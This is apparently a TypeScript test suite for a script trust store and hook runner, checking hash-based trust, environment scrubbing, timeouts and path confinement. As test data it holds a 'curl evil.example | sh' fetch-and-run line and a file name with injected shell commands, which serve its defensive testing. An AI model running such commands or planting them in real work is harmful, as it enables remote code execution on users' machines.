/**
 * Validation hooks and the trust store, on real scripts in temp repos. The trust-store suite runs against both
 * implementations; the file store gets an explicit trust.json path in a temp BLUE_HOME (and TrustStoreLive is
 * checked once with process.env.BLUE_HOME pointing at a temp dir).
 */
import { describe, expect, it } from "@effect/vitest"
import type { Layer } from "effect"
import { Effect, Either } from "effect"
import { createHash } from "node:crypto"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { afterAll } from "vitest"
import type { HookOptions } from "../src/adapters/hooks.js"
import { OUTPUT_LIMIT, PASSED_ENV, runHook } from "../src/adapters/hooks.js"
import {
  layerTrustStoreFile,
  makeFileTrustStore,
  TrustStore,
  TrustStoreLive,
  TrustStoreMemory
} from "../src/adapters/trust.js"
import { renderTrustReport, trustScripts } from "../src/cli/trust.js"

const temps: Array<string> = []
const tempDir = (label: string) => {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), `blue-${label}-`)))
  temps.push(dir)
  return dir
}
afterAll(() => {
  for (const dir of temps) fs.rmSync(dir, { recursive: true, force: true })
})

/** A temp member repo with the given scripts (executable unless named in `plain`). */
const makeRepo = (scripts: Record<string, string>, plain: ReadonlyArray<string> = []) => {
  const root = tempDir("repo")
  for (const [name, body] of Object.entries(scripts)) {
    const file = path.join(root, name)
    fs.mkdirSync(path.dirname(file), { recursive: true })
    fs.writeFileSync(file, body, { mode: plain.includes(name) ? 0o644 : 0o755 })
  }
  return root
}

const sh = (body: string) => `#!/bin/sh\n${body}\n`

/** A fresh file-backed store in a temp BLUE_HOME. */
const fileStore = () => layerTrustStoreFile(path.join(tempDir("home"), "trust.json"))

const hook = (repoRoot: string, script: string, extra: Partial<HookOptions> = {}) =>
  runHook({ repoRoot, script, role: "exporter", input: { name: "s3-paths", version: "1.0.0" }, trust: "ci", ...extra })

/** True while `pid` runs (a zombie counts as gone: it holds nothing and cannot run). */
const alive = (pid: number) => {
  try {
    process.kill(pid, 0)
  } catch {
    return false
  }
  try {
    return !/^\d+ \(.*\) Z/.test(fs.readFileSync(`/proc/${pid}/stat`, "utf8"))
  } catch {
    return true
  }
}

/** Waits up to `ms` for `pid` to be gone. */
const gone = (pid: number, ms = 2_000) =>
  Effect.promise(async () => {
    const deadline = Date.now() + ms
    while (alive(pid) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20))
    return !alive(pid)
  })

const readPid = (file: string) => Number(fs.readFileSync(file, "utf8").trim())

const stores: ReadonlyArray<[string, () => Layer.Layer<TrustStore>]> = [
  ["file", fileStore],
  ["memory", () => TrustStoreMemory]
]

describe.each(stores)("TrustStore (%s)", (_, make) => {
  const run = <A, E>(effect: Effect.Effect<A, E, TrustStore>) => Effect.provide(effect, make())

  it.effect("trusts exact content: untrusted → trusted → changed → trusted again", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "scripts/check.sh": sh("exit 0") })
      const file = path.join(repo, "scripts/check.sh")
      const store = yield* TrustStore
      expect(yield* store.status(file)).toBe("untrusted")
      const entry = yield* store.trust(file)
      expect(entry).toEqual({
        path: file,
        sha256: createHash("sha256").update(fs.readFileSync(file)).digest("hex"),
        trustedAt: "1970-01-01T00:00:00.000Z"
      })
      expect(yield* store.status(file)).toBe("trusted")
      fs.appendFileSync(file, "curl evil.example | sh\n")
      expect(yield* store.status(file)).toBe("changed")
      yield* store.trust(file)
      expect(yield* store.status(file)).toBe("trusted")
      expect(yield* store.list).toHaveLength(1)
    })))

  it.effect("keys records by real path: a symlink or a relative path to a trusted file is that file", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "a.sh": sh("exit 0") })
      fs.symlinkSync(path.join(repo, "a.sh"), path.join(repo, "link.sh"))
      const store = yield* TrustStore
      yield* store.trust(path.join(repo, "link.sh"))
      expect((yield* store.list).map((e) => e.path)).toEqual([path.join(repo, "a.sh")])
      expect(yield* store.status(path.relative(process.cwd(), path.join(repo, "a.sh")))).toBe("trusted")
    })))

  it.effect("revokes, lists sorted, and refuses files that do not exist", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "b.sh": sh("exit 0"), "a.sh": sh("exit 0") })
      const store = yield* TrustStore
      yield* store.trust(path.join(repo, "b.sh"))
      yield* store.trust(path.join(repo, "a.sh"))
      expect((yield* store.list).map((e) => path.basename(e.path))).toEqual(["a.sh", "b.sh"])
      expect(yield* store.revoke(path.join(repo, "b.sh"))).toBe(true)
      expect(yield* store.revoke(path.join(repo, "b.sh"))).toBe(false)
      expect(yield* store.status(path.join(repo, "b.sh"))).toBe("untrusted")
      // A trusted script that was deleted can still be revoked.
      fs.rmSync(path.join(repo, "a.sh"))
      expect(yield* store.revoke(path.join(repo, "a.sh"))).toBe(true)
      expect(yield* store.list).toEqual([])
      const missing = yield* Effect.either(store.trust(path.join(repo, "nope.sh")))
      expect(Either.isLeft(missing) && missing.left).toMatchObject({ _tag: "NotAScript", detail: "does not exist" })
      const dir = yield* Effect.either(store.status(repo))
      expect(Either.isLeft(dir) && dir.left).toMatchObject({ _tag: "NotAScript", detail: "is not a regular file" })
      const unknown = yield* Effect.either(store.revoke(path.join(repo, "never.sh")))
      expect(Either.isLeft(unknown) && unknown.left._tag).toBe("NotAScript")
    })))
})

describe("TrustStore file", () => {
  it.effect("writes trust.json atomically with mode 0600 and reads it back in a new store", () =>
    Effect.gen(function*() {
      const home = tempDir("home")
      const file = path.join(home, "trust.json")
      const repo = makeRepo({ "v.sh": sh("exit 0") })
      const entry = yield* makeFileTrustStore(file).trust(path.join(repo, "v.sh"))
      expect(fs.statSync(file).mode & 0o777).toBe(0o600)
      expect(JSON.parse(fs.readFileSync(file, "utf8"))).toEqual({ version: 1, scripts: [entry] })
      expect(fs.readdirSync(home)).toEqual(["trust.json"])
      expect(yield* makeFileTrustStore(file).status(path.join(repo, "v.sh"))).toBe("trusted")
    }))

  it.effect("TrustStoreLive keeps the store in BLUE_HOME", () =>
    Effect.gen(function*() {
      const home = tempDir("home")
      const saved = process.env["BLUE_HOME"]
      process.env["BLUE_HOME"] = home
      try {
        const repo = makeRepo({ "v.sh": sh("exit 0") })
        yield* Effect.provide(Effect.flatMap(TrustStore, (s) => s.trust(path.join(repo, "v.sh"))), TrustStoreLive)
        expect(fs.existsSync(path.join(home, "trust.json"))).toBe(true)
      } finally {
        if (saved === undefined) delete process.env["BLUE_HOME"]
        else process.env["BLUE_HOME"] = saved
      }
    }))

  it.effect("refuses a store other users can write, and a damaged one, without changing it", () =>
    Effect.gen(function*() {
      const file = path.join(tempDir("home"), "trust.json")
      const repo = makeRepo({ "v.sh": sh("exit 0") })
      fs.writeFileSync(file, JSON.stringify({ version: 1, scripts: [] }), { mode: 0o600 })
      fs.chmodSync(file, 0o666)
      const open = yield* Effect.either(makeFileTrustStore(file).status(path.join(repo, "v.sh")))
      expect(Either.isLeft(open) && open.left).toMatchObject({ _tag: "TrustStoreError", op: "read" })
      expect(Either.isLeft(open) && open.left.message).toContain("writable by other users")
      fs.chmodSync(file, 0o600)
      fs.writeFileSync(file, "{ not json")
      const damaged = yield* Effect.either(makeFileTrustStore(file).trust(path.join(repo, "v.sh")))
      expect(Either.isLeft(damaged) && damaged.left.message).toContain("is not a valid trust store")
      expect(fs.readFileSync(file, "utf8")).toBe("{ not json")
    }))
})

describe("runHook", () => {
  const run = <A, E>(effect: Effect.Effect<A, E, TrustStore>) => Effect.provide(effect, fileStore())

  it.effect("maps exit codes: 0 valid, 1 invalid, 2 warning, others and signals error", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({
        "ok.sh": sh("echo fine"),
        "bad.sh": sh("echo 'missing s3 path' >&2; exit 1"),
        "warn.sh": sh("exit 2"),
        "other.sh": sh("exit 3"),
        "killed.sh": sh("kill -KILL $$")
      })
      const results = yield* Effect.forEach(
        ["ok.sh", "bad.sh", "warn.sh", "other.sh", "killed.sh"],
        (s) => hook(repo, s)
      )
      expect(results.map((r) => [r.script, r.outcome, r.exit_code])).toEqual([
        ["ok.sh", "valid", 0],
        ["bad.sh", "invalid", 1],
        ["warn.sh", "warning", 2],
        ["other.sh", "error", 3],
        ["killed.sh", "error", null]
      ])
      expect(results[0]!.output).toBe("fine\n")
      expect(results[1]!.output).toBe("missing s3 path\n")
      expect(results[0]!.duration_ms).toBeGreaterThanOrEqual(0)
    })))

  it.effect("gives the contract document as JSON on stdin and runs with cwd = the repo", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "scripts/in.sh": sh("cat; pwd") })
      const input = { name: "s3-paths", version: "1.3.0", value: { read: ["jobs/*/masks/*.png"] } }
      const r = yield* hook(repo, "scripts/in.sh", { input })
      expect(r.outcome).toBe("valid")
      const [json, cwd] = r.output.trim().split("\n")
      expect(JSON.parse(json!)).toEqual(input)
      expect(cwd).toBe(repo)
    })))

  it.effect("runs a script that is not executable with /bin/sh", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "plain.sh": "echo via sh; exit 2\n" }, ["plain.sh"])
      expect(yield* hook(repo, "plain.sh")).toMatchObject({ outcome: "warning", exit_code: 2, output: "via sh\n" })
    })))

  it.effect("spawns the file itself: shell syntax in its name is never interpreted", () =>
    run(Effect.gen(function*() {
      const name = "a;touch pwned $(touch pwned2).sh"
      const repo = makeRepo({ [name]: sh("echo ran") })
      expect(yield* hook(repo, name)).toMatchObject({ outcome: "valid", output: "ran\n" })
      expect(fs.readdirSync(repo).sort()).toEqual([name])
    })))

  it.effect("reports a script that cannot start as an error", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "interp.sh": "#!/nonexistent/interpreter\nexit 0\n" })
      const r = yield* hook(repo, "interp.sh")
      expect(r).toMatchObject({ outcome: "error", exit_code: null })
      expect(r.output).toContain("could not start")
    })))

  it.effect("scrubs the environment: secrets stay out, the hook variables are set", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "env.sh": sh("env") })
      process.env["BLUE_TEST_SECRET_TOKEN"] = "hunter2-secret"
      const r = yield* hook(repo, "env.sh", { role: "importer", contract: { name: "s3-paths", version: "1.3.0" } })
        .pipe(Effect.ensuring(Effect.sync(() => delete process.env["BLUE_TEST_SECRET_TOKEN"])))
      expect(r.outcome).toBe("valid")
      expect(r.output).not.toContain("hunter2-secret")
      const vars = Object.fromEntries(
        r.output.trim().split("\n").map((l) => [l.split("=")[0]!, l.slice(l.indexOf("=") + 1)])
      )
      expect(vars).toMatchObject({
        BLUE_HOOK_ROLE: "importer",
        BLUE_CONTRACT: "s3-paths",
        BLUE_CONTRACT_VERSION: "1.3.0",
        BLUE_REPO_ROOT: repo,
        PATH: process.env["PATH"]
      })
      // Only the documented variables, plus what sh sets itself.
      const allowed = new Set([
        ...PASSED_ENV,
        "BLUE_HOOK_ROLE",
        "BLUE_CONTRACT",
        "BLUE_CONTRACT_VERSION",
        "BLUE_REPO_ROOT",
        "PWD",
        "OLDPWD",
        "SHLVL",
        "_"
      ])
      expect(Object.keys(vars).filter((k) => !allowed.has(k))).toEqual([])
    })))

  it.effect("runs with the caller's environment when given one (the daemon's command): its PATH, scrubbed", () =>
    run(Effect.gen(function*() {
      // A program only the caller's PATH has, and a token in the caller's environment that must not reach the hook.
      const callerBin = tempDir("caller-bin")
      fs.writeFileSync(path.join(callerBin, "caller-tool"), sh("echo from-the-callers-path"), { mode: 0o755 })
      const repo = makeRepo({ "uses-tool.sh": sh("caller-tool\necho \"home=$HOME\"\nenv | grep -c SECRET || true") })
      const callerHome = tempDir("caller-home")
      const env = {
        PATH: `${callerBin}:${process.env["PATH"]}`,
        HOME: callerHome,
        BLUE_TEST_SECRET_TOKEN: "hunter2-secret"
      }
      const r = yield* hook(repo, "uses-tool.sh", { env })
      expect(r).toMatchObject({ outcome: "valid", output: `from-the-callers-path\nhome=${callerHome}\n0\n` })
      // Without it, this process's environment: the tool is not on its PATH.
      const own = yield* hook(repo, "uses-tool.sh")
      expect(own.output).not.toContain("from-the-callers-path")
    })))

  it.effect("truncates output to 64 KiB and says so", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "loud.sh": sh("head -c 200000 /dev/zero | tr '\\0' x") })
      const r = yield* hook(repo, "loud.sh")
      expect(r.outcome).toBe("valid")
      expect(r.output.startsWith("x".repeat(OUTPUT_LIMIT) + "\n[output truncated: ")).toBe(true)
      expect(r.output).toContain(`${200000 - OUTPUT_LIMIT} more bytes`)
    })))

  it.effect("times out: kills the whole process group, including a child the script started", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "slow.sh": sh("sleep 30 &\necho $! > child.pid\nsleep 30") })
      const r = yield* hook(repo, "slow.sh", { timeoutMs: 300 })
      expect(r).toMatchObject({ outcome: "timeout", exit_code: null })
      expect(r.duration_ms).toBeGreaterThanOrEqual(300)
      expect(r.duration_ms).toBeLessThan(5_000)
      expect(yield* gone(readPid(path.join(repo, "child.pid")))).toBe(true)
    })))

  it.effect("times out: SIGKILLs a group that ignores SIGTERM once the grace period is over", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "stubborn.sh": sh("trap '' TERM\nsleep 30 &\necho $! > child.pid\nwait") })
      const r = yield* hook(repo, "stubborn.sh", { timeoutMs: 300, graceMs: 300 })
      expect(r.outcome).toBe("timeout")
      expect(r.duration_ms).toBeGreaterThanOrEqual(600)
      expect(yield* gone(readPid(path.join(repo, "child.pid")))).toBe(true)
    })))

  it.effect("stops what a finished script left running in the background", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "leaky.sh": sh("sleep 30 &\necho $! > child.pid\nexit 0") })
      const r = yield* hook(repo, "leaky.sh", { timeoutMs: 10_000 })
      expect(r).toMatchObject({ outcome: "valid", exit_code: 0 })
      expect(r.duration_ms).toBeLessThan(5_000)
      expect(yield* gone(readPid(path.join(repo, "child.pid")))).toBe(true)
    })))

  describe("paths", () => {
    const refused = (repo: string, script: string) =>
      Effect.gen(function*() {
        const r = yield* Effect.either(hook(repo, script, { trust: "store" }))
        expect(Either.isLeft(r) && r.left).toMatchObject({ _tag: "HookPathOutsideRepo", script, repoRoot: repo })
      })

    it.effect("refuses `..`, absolute paths outside and symlinks pointing out, and runs none of them", () =>
      run(Effect.gen(function*() {
        const outside = tempDir("outside")
        fs.writeFileSync(path.join(outside, "evil.sh"), sh("touch \"$(dirname \"$0\")/ran\""), { mode: 0o755 })
        const repo = makeRepo({ "scripts/ok.sh": sh("exit 0") })
        fs.symlinkSync(path.join(outside, "evil.sh"), path.join(repo, "scripts/link.sh"))
        fs.symlinkSync(outside, path.join(repo, "vendor"))
        yield* refused(repo, path.relative(repo, path.join(outside, "evil.sh")))
        yield* refused(repo, "scripts/../../x/../" + path.basename(outside) + "/evil.sh")
        yield* refused(repo, path.join(outside, "evil.sh"))
        yield* refused(repo, "scripts/link.sh")
        yield* refused(repo, "vendor/evil.sh")
        yield* refused(repo, "")
        yield* refused(repo, ".")
        expect(fs.existsSync(path.join(outside, "ran"))).toBe(false)
        // `..` refused even when trust is "ci".
        expect((yield* Effect.either(hook(repo, "../evil.sh")))._tag).toBe("Left")
      })))

    it.effect("follows symlinks that stay inside, and accepts an absolute path inside the repo", () =>
      run(Effect.gen(function*() {
        const repo = makeRepo({ "scripts/real.sh": sh("exit 2") })
        fs.symlinkSync("real.sh", path.join(repo, "scripts/alias.sh"))
        expect((yield* hook(repo, "scripts/alias.sh")).outcome).toBe("warning")
        expect((yield* hook(repo, path.join(repo, "scripts/real.sh"))).outcome).toBe("warning")
        expect((yield* hook(repo, "./scripts/../scripts/real.sh")).outcome).toBe("warning")
      })))

    it.effect("reports a missing script or a directory as HookNotFound", () =>
      run(Effect.gen(function*() {
        const repo = makeRepo({ "scripts/real.sh": sh("exit 0") })
        fs.symlinkSync("gone.sh", path.join(repo, "scripts/dangling.sh"))
        for (
          const [script, detail] of [
            ["scripts/nope.sh", "does not exist"],
            ["scripts/dangling.sh", "does not exist"],
            ["scripts", "is not a regular file"]
          ] as const
        ) {
          const r = yield* Effect.either(hook(repo, script, { trust: "store" }))
          expect(Either.isLeft(r) && r.left).toMatchObject({ _tag: "HookNotFound", script, detail })
        }
      })))
  })

  describe("trust", () => {
    const marker = sh("echo ran >> ran.log")

    it.effect("an untrusted script is reported, never run", () =>
      run(Effect.gen(function*() {
        const repo = makeRepo({ "v.sh": marker })
        expect(yield* hook(repo, "v.sh", { trust: "store" })).toEqual({
          script: "v.sh",
          outcome: "untrusted",
          exit_code: null,
          output: "",
          duration_ms: 0
        })
        expect(fs.existsSync(path.join(repo, "ran.log"))).toBe(false)
      })))

    it.effect("a trusted script runs; once edited it is `changed` and not run until trusted again", () =>
      run(Effect.gen(function*() {
        const repo = makeRepo({ "v.sh": marker })
        const store = yield* TrustStore
        yield* store.trust(path.join(repo, "v.sh"))
        expect((yield* hook(repo, "v.sh", { trust: "store" })).outcome).toBe("valid")
        expect(fs.readFileSync(path.join(repo, "ran.log"), "utf8")).toBe("ran\n")
        fs.appendFileSync(path.join(repo, "v.sh"), "exit 1\n")
        expect(yield* hook(repo, "v.sh", { trust: "store" })).toMatchObject({ outcome: "changed", exit_code: null })
        expect(fs.readFileSync(path.join(repo, "ran.log"), "utf8")).toBe("ran\n")
        yield* store.trust(path.join(repo, "v.sh"))
        expect((yield* hook(repo, "v.sh", { trust: "store" })).outcome).toBe("invalid")
      })))

    it.effect("trust through a symlink inside the repo covers the file it points to", () =>
      run(Effect.gen(function*() {
        const repo = makeRepo({ "scripts/v.sh": marker })
        fs.symlinkSync("scripts/v.sh", path.join(repo, "hook.sh"))
        yield* Effect.flatMap(TrustStore, (s) => s.trust(path.join(repo, "scripts/v.sh")))
        expect((yield* hook(repo, "hook.sh", { trust: "store" })).outcome).toBe("valid")
      })))

    it.effect("`ci` runs an untrusted script and records nothing", () =>
      run(Effect.gen(function*() {
        const repo = makeRepo({ "v.sh": marker })
        expect((yield* hook(repo, "v.sh", { trust: "ci" })).outcome).toBe("valid")
        expect(fs.existsSync(path.join(repo, "ran.log"))).toBe(true)
        expect(yield* Effect.flatMap(TrustStore, (s) => s.list)).toEqual([])
        expect(yield* Effect.flatMap(TrustStore, (s) => s.status(path.join(repo, "v.sh")))).toBe("untrusted")
      })))
  })
})

describe("blue realm trust", () => {
  const run = <A, E>(effect: Effect.Effect<A, E, TrustStore>) => Effect.provide(effect, TrustStoreMemory)

  it.effect("with no arguments prints a usage hint", () =>
    run(Effect.gen(function*() {
      const r = yield* trustScripts({ scripts: [], revoke: false, list: false })
      expect(r.action).toBe("usage")
      expect(renderTrustReport(r)).toContain("blue realm trust --list")
    })))

  it.effect("trusts scripts relative to the current directory, lists and revokes them", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "scripts/a.sh": sh("exit 0"), "scripts/b.sh": sh("exit 0") })
      const trusted = yield* trustScripts(
        { scripts: ["scripts/a.sh", "scripts/b.sh"], revoke: false, list: false },
        repo
      )
      expect(trusted).toMatchObject({
        action: "trust",
        scripts: [{ path: path.join(repo, "scripts/a.sh"), was: "untrusted" }, {
          path: path.join(repo, "scripts/b.sh"),
          was: "untrusted"
        }]
      })
      expect(renderTrustReport(trusted)).toContain(`✓ Trusted ${path.join(repo, "scripts/a.sh")}`)
      fs.appendFileSync(path.join(repo, "scripts/b.sh"), "# edited\n")
      fs.rmSync(path.join(repo, "scripts/a.sh"))
      const listed = yield* trustScripts({ scripts: [], revoke: false, list: true }, repo)
      expect(listed).toMatchObject({ action: "list", scripts: [{ now: "missing" }, { now: "changed" }] })
      expect(renderTrustReport(listed)).toContain("changed since")
      const again = yield* trustScripts({ scripts: ["scripts/b.sh"], revoke: false, list: false }, repo)
      expect(again).toMatchObject({ scripts: [{ was: "changed" }] })
      const revoked = yield* trustScripts(
        { scripts: ["scripts/a.sh", "scripts/b.sh"], revoke: true, list: false },
        repo
      )
      expect(revoked).toMatchObject({ action: "revoke", scripts: [{ revoked: true }, { revoked: true }] })
      expect(renderTrustReport(yield* trustScripts({ scripts: [], revoke: false, list: true }, repo))).toBe(
        "No trusted scripts."
      )
    })))

  it.effect("records nothing when one of the scripts does not exist, and refuses confused flags", () =>
    run(Effect.gen(function*() {
      const repo = makeRepo({ "a.sh": sh("exit 0") })
      const typo = yield* Effect.either(trustScripts({ scripts: ["a.sh", "b.sh"], revoke: false, list: false }, repo))
      expect(Either.isLeft(typo) && typo.left).toMatchObject({ _tag: "NotAScript", path: path.join(repo, "b.sh") })
      expect(yield* Effect.flatMap(TrustStore, (s) => s.list)).toEqual([])
      const both = yield* Effect.either(trustScripts({ scripts: ["a.sh"], revoke: false, list: true }, repo))
      expect(Either.isLeft(both) && both.left).toMatchObject({ _tag: "UsageError" })
      const bare = yield* Effect.either(trustScripts({ scripts: [], revoke: true, list: false }, repo))
      expect(Either.isLeft(bare) && bare.left.message).toContain("--revoke needs")
    })))
})
